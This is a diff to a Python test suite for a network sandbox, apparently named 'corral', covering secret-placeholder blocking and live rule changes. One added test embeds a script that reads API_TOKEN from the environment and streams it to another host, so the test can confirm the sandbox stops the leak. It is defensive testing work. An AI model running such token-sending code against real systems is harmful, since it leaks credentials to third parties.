@@ -89,6 +89,7 @@ class EchoServer:
 
         self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
         self.httpd.daemon_threads = True
+        self.httpd.handle_error = lambda *args: None  # clients cut short on purpose
         if tls_context:
             self.httpd.socket = tls_context.wrap_socket(self.httpd.socket, server_side=True)
         self.port = self.httpd.server_address[1]
@@ -333,6 +334,36 @@ def test_secret_to_another_host_is_blocked_and_logged(https_echo, pki, tmp_path)
                                    for e in exfil)
 
 
+@pytest.mark.parametrize("framing", ["length", "chunked"])
+def test_secret_in_a_streamed_body_never_leaves(https_echo, pki, framing):  # noqa: F811
+    """A body too large to buffer (or chunked, not text) flows through
+    watched: a placeholder to another host stops it before any byte of the
+    placeholder leaves, wherever the pieces are cut."""
+    code = (
+        "import http.client, os\n"
+        "token = os.environ['API_TOKEN'].encode()\n"
+        "body = b'0' * (9 << 20) + token[:7]\n"
+        "rest = token[7:] + b'0' * 1000\n"
+        f"c = http.client.HTTPSConnection('{OTHER}', {https_echo.port}, timeout=20)\n"
+        "try:\n"
+        f"    if '{framing}' == 'chunked':\n"
+        "        c.request('POST', '/stream', body=iter([body, rest]), encode_chunked=True,\n"
+        "                  headers={'Content-Type': 'application/octet-stream'})\n"
+        "    else:\n"
+        "        c.request('POST', '/stream', body=body + rest,\n"
+        "                  headers={'Content-Type': 'application/octet-stream'})\n"
+        "    print(c.getresponse().status)\n"
+        "except OSError as e:\n"
+        "    print('cut', type(e).__name__)\n")
+    proc = run(*secret_args(pki, https_echo.port), "--", "python3", "-c", code,
+               extra_env={"API_TOKEN": SECRET})
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout.strip() in ("403", "cut BrokenPipeError", "cut ConnectionResetError"), \
+        proc.stdout
+    for seen in https_echo.seen:
+        assert b"C" not in seen["body"], "a byte of the placeholder reached the server"
+
+
 def test_secret_over_plain_http_is_replaced_for_its_host_only(http_echo, pki):  # noqa: F811
     url = f"http://{NAME}:{http_echo.port}/plain"
     proc = run(*secret_args(pki, http_echo.port), "--", "sh", "-c",
@@ -378,3 +409,132 @@ def test_ca_key_is_private():
         "~/.local/state/corral")
     st = os.stat(f"{state}/ca/ca.key")
     assert st.st_mode & 0o077 == 0
+
+
+# ---- rules replaced while the sandbox runs (corral_sandbox_set_net_rules) ----
+
+LIVE_SCRIPT = r"""
+import http.client, socket, sys
+def get(c, path):
+    try:
+        c.request('GET', path)
+        r = c.getresponse()
+        r.read()
+        return str(r.status)
+    except (OSError, http.client.HTTPException) as e:
+        return 'closed'
+kept = http.client.HTTPConnection(sys.argv[1], int(sys.argv[2]), timeout=10)
+print('before', get(kept, '/one'), flush=True)
+raw = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10)
+sys.stdin.readline()
+print('kept', get(kept, '/two'), flush=True)
+raw.settimeout(10)
+try:
+    raw.sendall(b'GET /raw HTTP/1.1\r\nHost: x\r\n\r\n')
+    data = raw.recv(100)
+    # Closed, or (when the change came before it was decided) refused.
+    print('raw', 'open' if data and b' 403 ' not in data.split(b'\r\n')[0] else 'denied',
+          flush=True)
+except OSError:
+    print('raw', 'denied', flush=True)
+fresh = http.client.HTTPConnection(sys.argv[1], int(sys.argv[2]), timeout=10)
+print('new', get(fresh, '/three'), flush=True)
+sys.stdin.readline()
+print('again', get(http.client.HTTPConnection(sys.argv[1], int(sys.argv[2]), timeout=10), '/four'),
+      flush=True)
+"""
+
+
+def live_rules_binary():
+    from conftest import CORRAL_BIN
+    path = os.path.join(os.path.dirname(CORRAL_BIN), "tests", "helpers", "live_rules")
+    if not os.access(path, os.X_OK):
+        pytest.skip(f"{path} is not built")
+    return path
+
+
+@pytest.mark.parametrize("intercept", [False, True])
+def test_rules_replaced_while_running(http_echo, pki, tmp_path, intercept):  # noqa: F811
+    """Removing the rule closes the open connections to the host at once
+    and denies new ones; restoring it allows new ones again."""
+    import socket
+    import subprocess
+
+    log = tmp_path / "net.log"
+    ours, theirs = socket.socketpair()
+    rule = f"{NAME}:{http_echo.port}"
+    argv = [live_rules_binary(), "--control", str(theirs.fileno()), "--allow-net", rule, "--net-host", f"{NAME}=127.0.0.1",
+            "--net-log", str(log), *(["--intercept"] if intercept else []),
+            "--", "python3", "-c", LIVE_SCRIPT, NAME, str(http_echo.port)]
+    proc = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, pass_fds=[theirs.fileno()])
+    theirs.close()
+
+    def line():
+        got = proc.stdout.readline()
+        if not got:
+            proc.kill()
+            pytest.fail(f"the sandbox ended early: {proc.stderr.read().decode()!r}")
+        return got
+
+    try:
+        assert line() == b"before 200\n"
+        ours.sendall(f"{OTHER}:1\n".encode())
+        assert ours.recv(200) == b"ok\n"
+        proc.stdin.write(b"\n")
+        proc.stdin.flush()
+        assert line() == b"kept closed\n"
+        assert line() == b"raw denied\n"
+        # The name no longer resolves inside (corral answers NXDOMAIN).
+        assert line() == b"new closed\n"
+        ours.sendall(f"{rule}\n".encode())
+        assert ours.recv(200) == b"ok\n"
+        ours.sendall(b"GET https://x.test/*\n")
+        reply = ours.recv(300).decode()
+        if intercept:
+            assert reply == "ok\n"
+            ours.sendall(f"{rule}\n".encode())
+            assert ours.recv(200) == b"ok\n"
+        else:
+            assert reply.startswith("error: ") and "interception" in reply
+        proc.stdin.write(b"\n")
+        proc.stdin.flush()
+        assert line() == b"again 200\n"
+        proc.stdin.close()
+        assert proc.wait(timeout=30) == 0, proc.stderr.read()
+    finally:
+        ours.close()
+        if proc.poll() is None:
+            proc.kill()
+            proc.wait()
+        proc.stdout.close()
+        proc.stderr.close()
+    paths = [s["path"] for s in http_echo.seen]
+    assert "/one" in paths and "/four" in paths
+    assert "/two" not in paths and "/three" not in paths
+    assert "the rules changed" in log.read_text()
+
+
+def test_bad_live_rules_are_refused(http_echo, pki):  # noqa: F811
+    import socket
+    import subprocess
+    ours, theirs = socket.socketpair()
+    argv = [live_rules_binary(), "--control", str(theirs.fileno()),
+            "--allow-net", f"{NAME}:{http_echo.port}", "--",
+            "sh", "-c", "read x"]
+    proc = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
+                            stderr=subprocess.PIPE, pass_fds=[theirs.fileno()])
+    theirs.close()
+    try:
+        ours.sendall(b"exa mple.com\n")
+        reply = ours.recv(300).decode()
+        assert reply.startswith("error: --allow-net") and reply.count("\n") == 1
+        proc.stdin.write(b"\n")
+        proc.stdin.close()
+        assert proc.wait(timeout=30) == 0
+    finally:
+        ours.close()
+        if proc.poll() is None:
+            proc.kill()
+            proc.wait()
+        proc.stderr.close()
